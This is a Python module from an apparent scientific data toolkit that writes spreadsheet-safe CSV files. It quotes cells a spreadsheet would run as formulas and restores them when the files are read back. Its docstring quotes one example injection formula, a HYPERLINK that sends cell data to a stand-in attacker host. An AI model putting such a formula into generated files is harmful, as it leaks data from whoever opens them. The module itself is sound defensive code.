"""Text in the CSV files the toolkit writes: inert when a spreadsheet opens them.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) that opens a CSV file
takes a cell that starts with ``=``, ``+``, ``-`` or ``@`` for a formula, and
a leading tab or carriage return can hide one.  A specimen or group name such
as ``=HYPERLINK("http://evil.example/?leak="&A1,"open")`` copied from a
manifest into a study's table would then run on the computer of whoever opens
the table (CSV or formula injection).  Every CSV the toolkit writes from text
goes through :func:`csv_writer`, which applies :func:`inert_cell` to each
cell, the rule of the OWASP page on CSV injection:

* a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return gets a single quote ``'`` in front, which makes the spreadsheet
  show it as text;
* a text cell that is a plain number (``-0.5``, ``+3``, ``-1e-05``, ``-inf``)
  is a number, not a formula, and stays as it is; so do numbers
  (``int``, ``float``, NumPy scalars) and every other cell;
* a text cell that is one or more quotes followed by a cell of the first
  kind gets one quote more, so that reading undoes exactly what writing did.

The toolkit's readers of the CSV files it writes (a study manifest, a
manifest given to a batch) apply :func:`restore_cell` to each cell, which
takes that one quote away again: a name survives the round trip.

References
----------
OWASP, CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

__all__ = [
    "FORMULA_STARTS",
    "InertWriter",
    "csv_writer",
    "inert_cell",
    "number_cell",
    "restore_cell",
]

#: what a spreadsheet takes for the start of a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    """Whether ``text`` is a plain number as Python writes one (no spaces, no ``_``)."""
    if text != text.strip() or "_" in text:
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula."""
    return text.startswith(FORMULA_STARTS) and not _is_number(text)


def inert_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows and never runs (see the module docstring).

    Examples
    --------
    >>> inert_cell("=1+2"), inert_cell("@SUM(A1)"), inert_cell("\\tx")
    ("'=1+2", "'@SUM(A1)", "'\\tx")
    >>> inert_cell("-0.5"), inert_cell("+3"), inert_cell(-2.5), inert_cell("S01")
    ('-0.5', '+3', -2.5, 'S01')
    >>> inert_cell("'=1+2")  # a quote of its own is kept through the round trip
    "''=1+2"
    """
    if isinstance(value, str) and _formula(value.lstrip("'")):
        return "'" + value
    return value


def number_cell(value) -> str:
    """A number as a table cell: integers whole, others to 8 significant digits, ``nan``
    for NaN or infinity, an empty cell for None.

    Examples
    --------
    >>> [number_cell(v) for v in (3, 0.1 + 0.2, float("inf"), None)]
    ['3', '0.3', 'nan', '']
    """
    import math

    import numpy as np

    if value is None:
        return ""
    if isinstance(value, int | np.integer):
        return str(int(value))
    value = float(value)
    return "nan" if not math.isfinite(value) else f"{value:.8g}"


def restore_cell(text: str) -> str:
    """A cell as :func:`inert_cell` was given it: the quote it added taken away.

    A cell it did not change is returned as it is.

    Examples
    --------
    >>> restore_cell("'=1+2"), restore_cell("''=1+2"), restore_cell("'quoted'")
    ('=1+2', "'=1+2", "'quoted'")
    >>> all(restore_cell(inert_cell(s)) == s for s in ("=1+2", "-2+3", "-0.5", "'", "'@x"))
    True
    """
    if text.startswith("'") and _formula(text.lstrip("'")):
        return text[1:]
    return text


class InertWriter:
    """A :func:`csv.writer` whose cells pass through :func:`inert_cell` first.

    Made by :func:`csv_writer`; ``writerow`` and ``writerows`` as the csv
    module's writer has them.
    """

    def __init__(self, writer) -> None:
        self._writer = writer

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([inert_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(f: TextIO, **fmtparams) -> InertWriter:
    """A :func:`csv.writer` on ``f`` that writes every text cell inert (:func:`inert_cell`).

    Every CSV file the toolkit writes that holds text goes through it: a cell
    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    and is not a plain number is written with a single quote in front, so that
    a spreadsheet shows it and does not run it as a formula; numbers and
    other text are written as :func:`csv.writer` writes them.  Readers undo
    the quote with :func:`restore_cell`.

    Parameters
    ----------
    f : file object
        Opened with ``newline=""`` (or a :class:`io.StringIO`).
    **fmtparams
        As for :func:`csv.writer` (``lineterminator="\\n"``, say).

    Returns
    -------
    writer
        With ``writerow(row)`` and ``writerows(rows)``.

    Examples
    --------
    >>> import io
    >>> buffer = io.StringIO()
    >>> w = csv_writer(buffer, lineterminator="\\n")
    >>> w.writerows([["specimen", "group", "mean"], ["=1+2", "-2+3", -0.25]])
    >>> print(buffer.getvalue(), end="")
    specimen,group,mean
    '=1+2,'-2+3,-0.25
    """
    return InertWriter(csv.writer(f, **fmtparams))
